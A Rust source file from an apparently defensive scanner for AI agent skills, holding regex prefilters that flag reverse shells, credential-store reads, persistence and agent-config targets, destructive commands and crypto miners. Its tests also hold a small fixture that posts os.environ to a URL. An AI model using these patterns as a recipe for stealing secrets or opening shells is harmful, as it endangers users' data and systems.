//! The cheap tests that decide which units are parsed at all. Parsing is most of vet's cost
//! and most code in skills holds nothing a behaviour rule judges, so each rule's necessary
//! words are looked for first (with the regex crate's literal prefilters): a sink that is a
//! finding alone (a shell over a socket, a privilege grant, a persistence or agent-config
//! target, a destructive command, a miner, an install), or a source together with the sink it
//! needs (stolen data and a network call; a decoder and something that runs or sends; a
//! download and something that runs it).
//!
//! The source and its sink may be in different units (a collector in one module, a sender in
//! another; a key read in one code block and posted in the next): [`Flags`] are summed over
//! the skill, and when the sum opens, every unit holding a word some rule needs is parsed,
//! with the units that call what those define ([`Plan`]). The development set
//! (tests/fixtures/vet-dev) and the labeled corpus run through this gate, so a class whose
//! words are missing here fails there.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;

use super::Lang;

use crate::checks::pattern::compile_lines as re;

static SINK: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)/dev/(tcp|udp)/|\bnc\b[^\n]*\s-[ec]\b|\bncat\b|\bsocat\b|\bmkfifo\b|\bdup2\b|pty\.spawn|TCPClient|net\.Socket
        |createConnection|net\.connect|socket\.socket|create_connection|\b(ba)?sh\s+-i\b|/inet/tcp|TCPSocket|fsockopen|\bssh\b[^\n]*\s-R\s
        |sudoers|NOPASSWD|chmod\s+[^\n]*([ugoa]*\+s\b|\b[2467][0-7]{3}\b)|0o[2467][0-7]{3}|setcap|setuid|polkit|usermod|visudo
        |nsenter|--privileged|-v\s*/:/|/etc/passwd|sudo\s+-S\b|docker\.sock
        |\.bashrc|\.zshrc|\.bash_profile|\.zprofile|\.zshenv|/\.profile\b|crontab|/etc/cron|systemd/(system|user)/
        |systemctl\s+(--user\s+)?enable|LaunchAgents|LaunchDaemons|authorized_keys|\.git/hooks|hooksPath|\.husky|\.githooks
        |\.claude|\.codex/|\.agents/skills|CLAUDE\.md|AGENTS\.md|GEMINI\.md|ld\.so\.preload|autostart
        |rc\.local|config\.fish|/skills/|\.gemini/|\.cursor/|mcp\.json|\.vscode/settings|autoApprove|bypassPermissions
        |approval_policy|sandbox_mode|dangerously|mcpServers|\bmcp\s+add\b|\.windsurf|\.continue/|opencode
        |\brm\s+(-\w+\s+)*-\w*[rR]|rmtree|rmSync|rimraf|removedirs|\s-delete\b|\bshred\b|\bdd\b[^\n]*\bof=|\bmkfs|wipefs|diskpart
        |Clear-Disk|Remove-Item|\brd\s+/s|\bdel\s+/[sfq]|\bDROP\s+(DATABASE|SCHEMA|TABLE)|\bTRUNCATE\b|\bFLUSHALL\b|dropDatabase
        |\bpush\b[^\n]*(--force\b|\s-f\b|\s\+\w)|reset\s+--hard|\bstash\s+clear\b|\bdelete\b[^\n]*--all\b|\bs3\s+rb\b|\bs3\s+rm\b|terraform\s+destroy
        |\bgcloud\b[^\n]*\bdelete\b|\baz\b[^\n]*\bdelete\b|\b(psql|mysql|mariadb|sqlite3|sqlcmd|mongosh)\b[^\n]*\s(-f|--file|<)\s
        |stratum\+|\b(xmrig|xmr-stak|cpuminer|minerd|ccminer|nbminer|t-rex|lolminer|phoenixminer|ethminer|nanominer|gminer
        |srbminer|teamredminer|cgminer|bfgminer|supportxmr|moneroocean|nanopool|minexmr|hashvault|2miners|f2pool|ethermine
        |c3pool|herominers|unmineable|nicehash|zpool)\b|donate-level
        |\bpip3?\s+install\b|-m\s+pip\s+install|\buv\s+(pip\s+install|add|run)\b|\buvx\s|\bpoetry\s+add\b|\bpipx\s+(install|run)\b
        |\bnpm\s+(i|install|add)\b|\byarn\s+add\b|\bpnpm\s+(add|i|install)\b|\bbun\s+add\b|\bnpx\s|\bbunx\s
        |\bgo\s+(get|install)\s|\bcargo\s+(add|install)\s|\bgem\s+install\s
        |--extra-index-url|--index-url|--registry|unzip\s[^\n]*-P|\b7z\b[^\n]*\s-p|xattr\s|hdiutil|Start-Process
        |((?m:^)|[;&|(])\s*\$\{?\w+\}?\$\{?\w+|/inet/(tcp|udp)/"#,
    )
});
static STOLEN: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?im)environ\s*([),}\];]|$)|process\.env\s*([;\]]|$)|environ\.(copy|items|keys|values)|\*\*os\.environ|in\s+os\.environ|process\.env\s*[),}]|\.\.\.process\.env
        |\(process\.env|\benv\s*\||\$\(\s*(env|printenv)\s*\)|\bprintenv\s*[|)]|`env`|Get-ChildItem\s+env:|compgen\s+-[ev]
        |GetEnvironmentVariables|/proc/[\w$*]+/environ|\.ssh/|\.aws/(credentials|config)|\.netrc|\.git-credentials|\.docker/config\.json
        |\.kube/config|keychain|find-(generic|internet)-password|dump-keychain|secret-tool|\bkeyring\b|Login Data|Cookies|cookies\.sqlite
        |logins\.json|key4\.db|\.mozilla|wallet|Exodus|Local Storage|/etc/shadow|\.env['"\s)]|\bid_(rsa|ed25519|ecdsa)|\.npmrc|\.pypirc
        |gh/hosts|\.credentials|auth\.json|\.claude\.json|mcp\.json|\.gnupg|\.pgpass|\.vault-token|_history|Documents|Desktop
        |\bgh\s+auth\s+token|print-(access|identity)-token|get-access-token|aws\s+configure\s+(get|export-credentials)|get-session-token
        |get-login-password|config\s+view\s+--raw|auth:token|credential\s+fill|docker-credential-|\bop\s+(read|item\s+get)\b"#,
    )
});
static SECRET_VAR: LazyLock<Regex> =
    LazyLock::new(|| re(r"[A-Z0-9]_(KEY|TOKEN|SECRET|PASSWORD|PASSWD)\b"));
/// Calls that send data out (a plain download sends nothing of the user's).
static SEND: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(curl|wget)\b[^\n]*\s(-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form|-T|--upload-file
        |--post-data|--post-file|--json)\b|\b(curl|wget)\b[^\n]*\?[^\n\s]*\$|\.(post|put|patch|send|sendall|sendto)\(
        |urlopen\(|Request\(|\b(nc|ncat|scp|rsync|sftp|nslookup|dig|drill|socat|telnet|rclone)\b|gethostbyname|getaddrinfo
        |resolver\.|sendBeacon|XMLHttpRequest|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|UploadString|UploadFile
        |\bfetch\(|axios|smtplib|ftplib|\bdns\.|https?\.request\(|requests\.|httpx\.|exiftool|steghide|WebSocket|\bgit\s+push
        |webhook|\.write\(|send_message|sendmail",
    )
});
static DECODE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)base64\s+(-d|--decode|-D)\b|b64decode|a2b_base64|\batob\(|fromhex|unhexlify|rot_?13|fromCharCode
        |decompress|inflateSync|gunzipSync|xxd\s+-r|\[::-1\]|\.reverse\(\)|\|\s*rev\b|FromBase64String
        |Buffer\.from\([^)]*(base64|hex)|\bchr\(|\$'\\x"#,
    )
});
static DECODE_RUN: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)pickle\.loads|marshal\.loads|\s-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{16}")
});
static EXEC: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\b(exec|eval)\s*\(|\bFunction\(|runInNewContext|\beval\b|\bsource\b|\b(ba|z|da)?sh\b|os\.system|os\.popen
        |subprocess|child_process|execSync|spawn|\biex\b|(?i:invoke-expression)|\bpython3?\s|\bnode\s|\bperl\s+-e
        |sys\.executable|\./[\w.-]+",
    )
});
static PIPE_RUN: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\|\s*(sudo\s+)?(python3?|node|perl|ruby|php)\s*(-\s*)?($|\||;|&)
        |\|\s*iex\b|\biex\s*\(|<\(\s*(curl|wget)",
    )
});
static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)urlopen|urlretrieve|requests\.get|\bfetch\(|httpx\.get|axios|https?\.get\(|DownloadString|DownloadFile
        |Invoke-WebRequest|\biwr\b|\birm\b|\bcurl\b|\bwget\b|\bgit\s+clone\b",
    )
});
/// Code run from text (`model.eval()` is not: a method of that name).
static RUNS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(^|[^.\w])(exec|eval)\s*[(\x22$]|Function\(|\bsh\s+-c|bash\s+-c|\bsource\b|(?i:\biex\b)|\|\s*(ba)?sh\b
        |runInNewContext|\bchmod\s+\+x|\bchmod\s+[0-7]*[157]\b|\b(ba|z)?sh\s+[\w./~$-]+\.sh\b|\bpython3?\s+[\w./~$-]+\.py\b
        |sys\.executable|\bnode\s+[\w./~$-]+\.m?js\b|(^|[\s;&|])\./|\s/tmp/[\w.-]+(\s|$)",
    )
});
/// Downloads that save a file (run later by name).
static TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)urlretrieve|wget\.download|DownloadFile|-OutFile|\b(curl|wget)\b[^\n]*\s(-o|-O|--output|--output-document)\b",
    )
});

/// [`SINK`] and [`DECODE_RUN`] in one pass.
static SINK_OR_DECODE_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!("{}|{}", flat_of(&SINK), flat_of(&DECODE_RUN)))
        .expect("valid built-in regex")
});
/// The pattern a compiled gate regex was built from, as one group.
fn flat_of(re: &Regex) -> String {
    format!("(?:{})", re.as_str())
}

/// The necessary words a unit holds, as a set the skill can sum.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Flags {
    /// A sink that is a finding alone, or decoded code run.
    pub alone: bool,
    pub fetch: bool,
    pub runs: bool,
    pub send: bool,
    /// The environment or a credential store (a secret-named variable is `secret_var`).
    pub stolen: bool,
    pub secret_var: bool,
    pub decode: bool,
    pub exec: bool,
    pub to_file: bool,
}

impl Flags {
    /// The words of `text`. A unit whose sink decides alone is not searched further.
    pub fn of(text: &str) -> Flags {
        if SINK_OR_DECODE_RUN.is_match(text) {
            return Flags {
                alone: true,
                ..Flags::default()
            };
        }
        // each word searched only where a pair could use it (most code has neither half)
        let fetch = FETCH.is_match(text);
        let runs = fetch && (PIPE_RUN.is_match(text) || RUNS.is_match(text));
        let send = SEND.is_match(text);
        let stolen = STOLEN.is_match(text);
        let secret_var = send && !stolen && SECRET_VAR.is_match(text);
        let decode = DECODE.is_match(text);
        let to_file = fetch && TO_FILE.is_match(text);
        let exec = (decode || to_file) && EXEC.is_match(text);
        Flags {
            alone: false,
            fetch,
            runs,
            send,
            stolen,
            secret_var,
            decode,
            exec,
            to_file,
        }
    }

    /// Whether the unit holds words that run code (asked only when a decoder elsewhere in
    /// the skill may feed it).
    pub fn runs_code(text: &str) -> bool {
        EXEC.is_match(text)
    }

    /// Whether these words in one unit may make a behaviour.
    pub fn open(self) -> bool {
        self.alone
            || self.fetch && self.runs
            || self.send && (self.stolen || self.secret_var)
            || self.decode && (self.send || self.exec)
            || self.to_file && self.exec
    }

    /// Whether these words summed over a skill may make a behaviour across its units: the
    /// environment or a credential store in one and a network call in another, a decoder in
    /// one and something that runs or sends in another. (A download in one unit and its run
    /// in another is followed by the file's name instead; a secret-named variable sent to an
    /// unknown host is at most a warning, and must be in the sending unit to be one.)
    pub fn open_across(self) -> bool {
        self.send && self.stolen || self.decode && (self.send || self.exec)
    }

    /// Whether a unit holds words of a pair that opened the skill (see [`Flags::open_across`]).
    pub fn part_of(self, sum: Flags) -> bool {
        sum.send && sum.stolen && (self.send || self.stolen)
            || sum.decode && (sum.send || sum.exec) && (self.decode || self.send || self.exec)
    }
}

impl std::ops::BitOr for Flags {
    type Output = Flags;
    fn bitor(self, o: Flags) -> Flags {
        Flags {
            alone: self.alone || o.alone,
            fetch: self.fetch || o.fetch,
            runs: self.runs || o.runs,
            send: self.send || o.send,
            stolen: self.stolen || o.stolen,
            secret_var: self.secret_var || o.secret_var,
            decode: self.decode || o.decode,
            exec: self.exec || o.exec,
            to_file: self.to_file || o.to_file,
        }
    }
}

/// Whether a piece of a unit holds any word some rule needs (a source or a sink alone).
pub(crate) fn relevant(text: &str) -> bool {
    SINK.is_match(text)
        || STOLEN.is_match(text)
        || SECRET_VAR.is_match(text)
        || SEND.is_match(text)
        || DECODE.is_match(text)
        || DECODE_RUN.is_match(text)
        || PIPE_RUN.is_match(text)
        || FETCH.is_match(text)
        || RUNS.is_match(text)
        || EXEC.is_match(text)
}

/// Names a unit defines (functions, classes, methods, exported values) that another unit may
/// call: `def name`, `function name`, `class Name`, `name = lambda`, `name() {`, `name(x) {`.
pub(crate) fn defined_names(text: &str) -> BTreeSet<String> {
    static DEF: LazyLock<Regex> = LazyLock::new(|| {
        re(
            r"(?m)\b(?:def|function|class)\s+([A-Za-z_$][\w$]*)|^\s*(?:export\s+)?(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:async\s*)?(?:function|\(|[A-Za-z_$][\w$]*\s*=>|lambda)
        |^\s*([A-Za-z_][\w]*)\s*=\s*lambda\b|^\s*(?:function\s+)?([A-Za-z_][\w-]*)\s*\(\s*\)\s*\{|^\s+(?:async\s+)?([A-Za-z_$][\w$]*)\s*\([^)]*\)\s*\{",
        )
    });
    DEF.captures_iter(text)
        .filter_map(|c| (1..=5).find_map(|i| c.get(i)))
        .map(|m| m.as_str().to_string())
        .filter(|n| {
            n.len() > 2 && !matches!(n.as_str(), "if" | "for" | "while" | "switch" | "catch")
        })
        .collect()
}

/// Whether `text` names one of `names` as a word.
pub(crate) fn mentions(text: &str, names: &BTreeSet<String>) -> bool {
    if names.is_empty() {
        return false;
    }
    let bytes = text.as_bytes();
    names.iter().any(|n| {
        memchr::memmem::find_iter(bytes, n.as_bytes()).any(|at| {
            let before = at.checked_sub(1).map(|i| bytes[i]);
            let after = bytes.get(at + n.len()).copied();
            let word = |b: Option<u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_');
            !word(before) && !word(after)
        })
    })
}

/// A download to a file: the file names it may have written, so a later unit that runs one is
/// parsed (`wget https://x/install.sh` here, `sh install.sh` in the next block).
pub(crate) fn downloaded_names(text: &str) -> Vec<(String, String)> {
    static TO_FILE_URL: LazyLock<Regex> = LazyLock::new(|| {
        re(r#"(?i)\b(curl|wget|iwr|Invoke-WebRequest)\b[^\n]*?(https?://[^\s'"]+)"#)
    });
    let mut out = Vec::new();
    if memchr::memmem::find(text.as_bytes(), b"://").is_none() {
        return out;
    }
    for caps in TO_FILE_URL.captures_iter(text) {
        let (Some(line), Some(url)) = (caps.get(0), caps.get(2)) else {
            continue;
        };
        let rest = &text[line.start()..];
        let line = rest.split('\n').next().unwrap_or(rest);
        let url = url.as_str().trim_end_matches(['"', '\'', ')']);
        let last = url
            .rsplit('/')
            .next()
            .unwrap_or("")
            .split(['?', '#'])
            .next()
            .unwrap_or("");
        for word in line.split_whitespace().chain(std::iter::once(last)) {
            let w = word.trim_matches(['"', '\'']);
            let named = w.rsplit('/').next().unwrap_or(w);
            if named.len() > 2
                && named.contains('.')
                && !named.contains("://")
                && !named.starts_with('-')
            {
                out.push((named.to_string(), url.to_string()));
            }
        }
    }
    out
}

/// Python and JavaScript units at least this long are sliced before parsing (see [`slice`]).
const SLICE_FROM_BYTES: usize = 4096;
/// Shell units at least this long are sliced (shell in skills is mostly short blocks, and a
/// block of many commands is common).
const SLICE_SHELL_FROM_BYTES: usize = 512;

/// A long script with its top-level statements that hold no word any rule needs blanked
/// (spaces, newlines kept: positions do not move), so the parser and the walk see only the
/// statements that matter, plus every import and top-level assignment (the names the kept
/// statements may use) and every statement that names a function or class the kept ones
/// define (`send(collect())` glues two of them). A big script that passed the gate for one
/// line costs one line's parse, not the file's. A statement is a line at column 0 and the
/// indented or continued lines after it (for shell: also the lines a `\\`, pipe or `&&`
/// continues, and a here-document's body). `names`: functions other units of the skill
/// define that matter; statements naming them are kept too.
pub(crate) fn slice<'t>(
    text: &'t str,
    lang: Lang,
    names: &BTreeSet<String>,
) -> std::borrow::Cow<'t, str> {
    let sliceable = match lang {
        Lang::Python | Lang::JavaScript => text.len() >= SLICE_FROM_BYTES,
        Lang::Shell => text.len() >= SLICE_SHELL_FROM_BYTES,
        Lang::PowerShell | Lang::Other => false,
    };
    if !sliceable {
        return std::borrow::Cow::Borrowed(text);
    }
    let chunks = statements(text, lang);
    let mut keep: Vec<bool> = chunks
        .iter()
        .map(|&(s, e)| {
            let chunk = &text[s..e];
            let first = chunk.trim_start();
            first.starts_with("import ")
                || first.starts_with("from ")
                || first.starts_with("const ")
                || first.starts_with("let ")
                || first.starts_with("var ")
                || is_assignment(first)
                || relevant(chunk)
                || mentions(chunk, names)
        })
        .collect();
    // twice: the glue that calls what the kept statements define, and what that glue defines
    for _ in 0..2 {
        let defined: BTreeSet<String> = chunks
            .iter()
            .zip(&keep)
            .filter(|(_, k)| **k)
            .flat_map(|(&(s, e), _)| defined_names(&text[s..e]))
            .collect();
        for (i, &(s, e)) in chunks.iter().enumerate() {
            keep[i] = keep[i] || mentions(&text[s..e], &defined);
        }
    }
    let mut out = String::with_capacity(text.len());
    for (&(s, e), kept) in chunks.iter().zip(keep) {
        let chunk = &text[s..e];
        if kept {
            out.push_str(chunk);
        } else {
            // every byte becomes one space, so offsets after the chunk stay the file's
            for c in chunk.chars() {
                if c == '\n' {
                    out.push('\n');
                } else {
                    out.extend(std::iter::repeat_n(' ', c.len_utf8()));
                }
            }
        }
    }
    std::borrow::Cow::Owned(out)
}

/// The top-level statements of `text`, as byte ranges covering it.
fn statements(text: &str, lang: Lang) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut chunk_start = 0;
    let mut pos = 0;
    let mut continued = false;
    // the delimiter of the here-document being read: its body lines start no statement
    let mut here_doc: Option<String> = None;
    for line in text.split_inclusive('\n') {
        if let Some(delimiter) = &here_doc {
            if line.trim() == delimiter {
                here_doc = None;
            }
            pos += line.len();
            continue;
        }
        if lang == Lang::Shell {
            here_doc = here_doc_delimiter(line);
        }
        let starts_statement = !continued
            && line.starts_with(|c: char| {
                !c.is_whitespace() && !matches!(c, ')' | ']' | '}' | '#' | '@')
            })
            && ![
                "else", "elif", "except", "finally", "catch", "fi", "done", "esac", "then", "do",
            ]
            .iter()
            .any(|k| line.starts_with(k));
        // a shell line ending in `\`, a pipe or `&&` goes on on the next line
        let end = line.trim_end();
        continued = lang == Lang::Shell
            && (end.ends_with('\\') || end.ends_with('|') || end.ends_with("&&"));
        if starts_statement && pos > chunk_start {
            out.push((chunk_start, pos));
            chunk_start = pos;
        }
        pos += line.len();
    }
    out.push((chunk_start, text.len()));
    out
}

/// The delimiter of a here-document a shell line opens (`cat <<'EOF'`, `<<-END`), not of a
/// here-string (`<<<`).
fn here_doc_delimiter(line: &str) -> Option<String> {
    let at = line.find("<<")?;
    let rest = &line[at + 2..];
    if rest.starts_with('<') {
        return None;
    }
    let word: String = rest
        .trim_start_matches('-')
        .trim_start()
        .trim_start_matches(['\'', '"'])
        .chars()
        .take_while(|c| c.is_alphanumeric() || *c == '_')
        .collect();
    (!word.is_empty()).then_some(word)
}

/// `NAME = ...` (not `==`) at the start of a statement.
fn is_assignment(line: &str) -> bool {
    let name_end = line
        .find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
        .unwrap_or(0);
    name_end > 0
        && line[name_end..].trim_start().starts_with('=')
        && !line[name_end..].trim_start().starts_with("==")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every lazy pattern of this file compiles (a panic there poisons every later skill).
    #[test]
    fn every_pattern_compiles() {
        crate::checks::pattern::force_every_static!(
            include_str!("gate.rs"),
            SINK,
            STOLEN,
            SECRET_VAR,
            SEND,
            DECODE,
            DECODE_RUN,
            EXEC,
            PIPE_RUN,
            FETCH,
            RUNS,
            TO_FILE,
            SINK_OR_DECODE_RUN
        );
    }

    #[test]
    fn a_source_and_its_sink_in_two_units_open_the_skill_together() {
        let collect = Flags::of("def gather():\n    return dict(os.environ)\n");
        let send = Flags::of("requests.post(URL, json={'c': gather()})\n");
        assert!(!collect.open() && !send.open());
        assert!((collect | send).open_across());
        assert!(collect.part_of(collect | send) && send.part_of(collect | send));
        let names = defined_names("def gather():\n    return 1\nclass Reporter:\n    pass\n");
        assert!(names.contains("gather") && names.contains("Reporter"));
        assert!(mentions("send(gather())", &names));
        assert!(!mentions("gatherer()", &names));
    }

    #[test]
    fn slicing_keeps_offsets_the_statements_that_matter_and_their_glue() {
        let filler: String = (0..200)
            .map(|i| format!("def f{i}(x):\n    return x + {i}  # é\n\n"))
            .collect();
        let text = format!(
            "import os, requests\nURL = 'https://x.io'\ndef gather():\n    return dict(os.environ)\n{filler}def send(d):\n    requests.post(URL, json=d)\n\nsend(gather())\n"
        );
        let sliced = slice(&text, Lang::Python, &BTreeSet::new());
        assert_eq!(sliced.len(), text.len());
        let at = text.find("requests.post").unwrap();
        assert_eq!(&sliced[at..at + 13], "requests.post");
        assert!(!sliced.contains("def f7("));
        assert!(sliced.contains("URL = 'https://x.io'"));
        assert!(sliced.contains("send(gather())"), "the glue is kept");
    }
}
